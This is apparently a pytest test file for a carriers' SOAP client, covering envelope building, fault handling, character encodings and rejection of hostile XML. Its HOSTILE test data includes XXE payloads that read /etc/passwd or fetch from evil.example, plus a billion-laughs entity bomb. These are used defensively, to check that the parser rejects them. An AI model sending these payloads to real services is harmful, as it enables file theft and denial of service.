"""The SOAP that carriers speak: everything escaped, nothing external, faults told apart, old encodings read."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from oscar_fulfillment.carriers import soap
from oscar_fulfillment.core.exceptions import AdapterRejected, AdapterUnanswered, AdapterUnavailable
from oscar_fulfillment.core.http import Answer

pytestmark = pytest.mark.feature("E13")
DATA = Path(__file__).parents[1] / "data"
OK = b'<s:Envelope xmlns:s="x"><s:Body><r><value>1</value></r></s:Body></s:Envelope>'
FAULT_11 = (
    b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><s:Fault><faultcode>s:Client.Order'
    b"</faultcode><faultstring>4: no &lt;b&gt;such\n parcel</faultstring></s:Fault></s:Body></s:Envelope>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    b'<s:Envelope xmlns:s="x"><s:Body><r>&d;</r></s:Body></s:Envelope>'
)
HOSTILE = {
    "billion laughs": LAUGHS,
    "external entity": b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
    "external subset": b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>',
    "parameter entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]><x/>',
    "an empty DTD": b"<!DOCTYPE x><x/>",
    "an unknown entity": b"<x>&nbsp;</x>",
    "not closed": b"<x><y></x>",
    "two roots": b"<x/><x/>",
    "nothing": b"",
    "HTML": b"<html><body><p>Service unavailable<br></body></html>",
    "JSON": b'{"error": 1}',
    "binary": bytes(range(256)),
}


class Wire:
    """Stands for the HTTP client: answers, and keeps what was sent."""

    name = "Vendor"

    def __init__(self, body=OK, status=200, headers=None, error=None):
        self.answer, self.error, self.sent = Answer(status, headers or {}, body), error, []

    def request(self, method, path, **options):
        self.sent.append((method, path, options))
        if self.error:
            raise self.error
        return self.answer


def call(wire, **options):
    client = soap.SoapClient(wire, namespace="http://tempuri.org/")
    return client.call("/SOAP", "Do", {"a": "1"}, action="urn:x#Do", **options)


# Questions


def test_a_question_is_an_envelope_with_its_action():
    wire = Wire()
    assert soap.text_of(call(wire, query={"service": "S"}, header={"H": {"ID": "{1}"}}), "value") == "1"
    [(method, path, sent)] = wire.sent
    assert (method, path, sent["query"]) == ("POST", "/SOAP", {"service": "S"})
    assert sent["headers"] == {
        "Content-Type": "text/xml; charset=utf-8",
        "Accept": "text/xml",
        "SOAPAction": '"urn:x#Do"',
    }
    assert sent["body"].decode() == (
        '<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
        'xmlns:t="http://tempuri.org/"><s:Header><t:H><t:ID>{1}</t:ID></t:H></s:Header>'
        "<s:Body><t:Do><t:a>1</t:a></t:Do></s:Body></s:Envelope>"
    )


def test_values_are_written_as_xml_has_them():
    body = soap.envelope("Do", {"a": True, "b": False, "c": 7, "d": 'x<y>&"z"]]>'}, namespace="n").decode()
    assert "<t:a>true</t:a><t:b>false</t:b><t:c>7</t:c><t:d>x&lt;y&gt;&amp;" in body
    assert "<s:Header>" not in body


@given(st.text())
def test_any_text_arrives_as_it_is_but_for_what_xml_cannot_hold(text):
    document = soap.parse(soap.decoded(soap.envelope("Do", {"a": text}, namespace="n")))
    arrived = soap.raw(document, "Body", "Do", "a")
    wanted = "".join(
        c if c in "\t\n\r" or " " <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" or c > "\uffff" else " " for c in text
    )
    assert arrived == wanted.replace("\r\n", "\n").replace("\r", "\n")


# Answers


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_answer_is_no_answer(body):
    with pytest.raises(AdapterUnavailable) as asked:
        call(Wire(body))
    assert not isinstance(asked.value, AdapterUnanswered)
    with pytest.raises(AdapterUnanswered):
        call(Wire(body), changes=True)


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_document_inside_an_answer_is_none_either(body):
    with pytest.raises(AdapterUnanswered):
        soap.parse(body.decode("latin-1"))


def test_what_is_nested_deeply_is_read_without_harm():
    depth = 100_000
    body = b'<s:Envelope xmlns:s="x"><s:Body>' + b"<a>" * depth + b"x" + b"</a>" * depth + b"</s:Body></s:Envelope>"
    answer = call(Wire(body))
    assert (soap.name_of(answer), soap.raw(answer)) == ("a", "x")


@pytest.mark.parametrize(
    "body",
    [
        b"<x/>",
        b"<Envelope/>",
        b"<Envelope><Body/></Envelope>",
        b"<Envelope><Header/></Envelope>",
        b"<Envelope><Body>text</Body></Envelope>",
        b"<Body><r/></Body>",
    ],
)
def test_what_is_no_envelope_with_an_answer_is_no_answer(body):
    with pytest.raises(AdapterUnavailable, match="no SOAP envelope"):
        call(Wire(body))


@pytest.mark.parametrize("status", [200, 400, 500])
def test_a_fault_is_a_refusal_whatever_its_status(status):
    with pytest.raises(soap.SoapFault) as caught:
        call(Wire(FAULT_11, status))
    fault = caught.value
    assert isinstance(fault, AdapterRejected)
    assert (fault.code, fault.text, fault.status) == ("Client.Order", "4: no <b>such parcel", status)
    assert str(fault) == "Vendor: 4: no <b>such parcel"
    assert fault.body == FAULT_11


def test_a_fault_of_the_newer_version_is_read_too():
    with pytest.raises(soap.SoapFault, match="El servidor no puede procesar") as caught:
        call(Wire((DATA / "gls_es" / "fault.xml").read_bytes(), 500))
    assert caught.value.code == "Receiver"


def test_a_fault_without_words_still_says_something():
    with pytest.raises(soap.SoapFault, match="Vendor: Server"):
        call(Wire(FAULT_11.replace(b"s:Client.Order", b"Server").replace(b"4: no &lt;b&gt;such\n parcel", b"")))


def test_long_words_of_a_fault_are_cut():
    with pytest.raises(soap.SoapFault) as caught:
        call(Wire(FAULT_11.replace(b"such", b"x" * 100_000).replace(b"Client", b"C" * 1_000)))
    assert (len(caught.value.text), len(caught.value.code), len(caught.value.body)) == (300, 64, 10_000)


def test_statuses_without_a_fault():
    with pytest.raises(AdapterUnanswered, match="500"):
        call(Wire(b"<html>Runtime Error</html>", 500), changes=True)
    with pytest.raises(AdapterUnanswered, match="500"):
        call(Wire(OK, 500), changes=True)
    with pytest.raises(AdapterRejected, match="400") as refused:
        call(Wire(b"Bad Request", 400), changes=True)
    assert refused.value.status == 400


def test_what_was_not_answered_may_be_asked_again_unless_it_changes_something():
    for error in (AdapterUnanswered("cut"), AdapterUnavailable("busy")):
        with pytest.raises(AdapterUnavailable) as caught:
            call(Wire(error=error))
        assert not isinstance(caught.value, AdapterUnanswered)
    with pytest.raises(AdapterUnanswered, match="cut"):
        call(Wire(error=AdapterUnanswered("cut")), changes=True)


# Encodings


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        pytest.param("<x>añ</x>".encode(), "", id="nothing said: UTF-8"),
        pytest.param("\ufeff<x>añ</x>".encode(), "", id="a mark of UTF-8"),
        pytest.param("<x>añ</x>".encode("utf-16"), "", id="a mark of UTF-16"),
        pytest.param('<?xml version="1.0" encoding="ISO-8859-1"?><x>añ</x>'.encode("latin-1"), "", id="declared"),
        pytest.param('<?xml version="1.0" encoding="windows-1252"?><x>añ</x>'.encode("cp1252"), "", id="Windows"),
        pytest.param("<x>añ</x>".encode("latin-1"), "text/xml; charset=ISO-8859-1", id="in the header"),
        pytest.param("<x>añ</x>".encode("latin-1"), "", id="Latin-1 that nobody declares"),
        pytest.param(
            '<?xml version="1.0" encoding="utf-8"?><x>añ</x>'.encode("latin-1"),
            'text/xml; charset="utf-8"',
            id="Latin-1 that is declared as UTF-8",
        ),
        pytest.param('<?xml version="1.0" encoding="klingon"?><x>añ</x>'.encode(), "", id="an encoding of nobody"),
        pytest.param('<?xml version="1.0" encoding="zlib"?><x>añ</x>'.encode(), "text/xml; charset=hex", id="no text"),
    ],
)
def test_accents_are_read_however_they_are_written(body, content_type):
    assert soap.parse(soap.decoded(body, content_type)).text == "añ"


def test_the_header_of_an_answer_is_found_however_it_is_spelled():
    body = OK.replace(b"1<", "ñ<".encode("cp850"))
    assert soap.text_of(call(Wire(body, headers={"content-TYPE": "text/xml; charset=cp850"})), "value") == "ñ"


@given(st.binary(max_size=300), st.text(max_size=60))
def test_any_bytes_are_some_text(body, content_type):
    assert isinstance(soap.decoded(body, content_type), str)


@pytest.mark.parametrize("mark", ["\x00", "\x1b", "\x0b", "\ufffe", "&#0;", "&#x1B;", "&#27;", "&#x0b;", "&#0031;"])
def test_control_characters_do_not_spoil_a_document(mark):
    assert soap.parse(f'<x a="1{mark}2">3{mark}4</x>').attrib["a"] == "1 2"
    assert soap.parse(f"<x>3{mark}4</x>").text == "3 4"


def test_references_that_are_allowed_are_left_alone():
    assert soap.parse("<x>&#9;&#xA;&#13;&#32;&#x41;&#200;&amp;#1;</x>").text == "\t\n\r A\xc8&#1;"


# Reading


def test_elements_are_found_by_name_whatever_their_namespace():
    document = soap.parse('<a xmlns="u"><b xmlns="v"><c> one\n two </c></b><b><c>three</c></b></a>')
    assert soap.text_of(document, "b", "c") == "one two"
    assert soap.raw(document, "b", "c") == " one\n two "
    assert (soap.child(document, "c"), soap.text_of(document, "b", "x"), soap.raw(document, "x", "c")) == (None, "", "")
    assert soap.text_of(document, "b", "c", limit=3) == "one"


def test_no_repr_tells_what_is_sent():
    assert repr(soap.SoapClient(Wire(), namespace="n")) == "<SoapClient Vendor>"
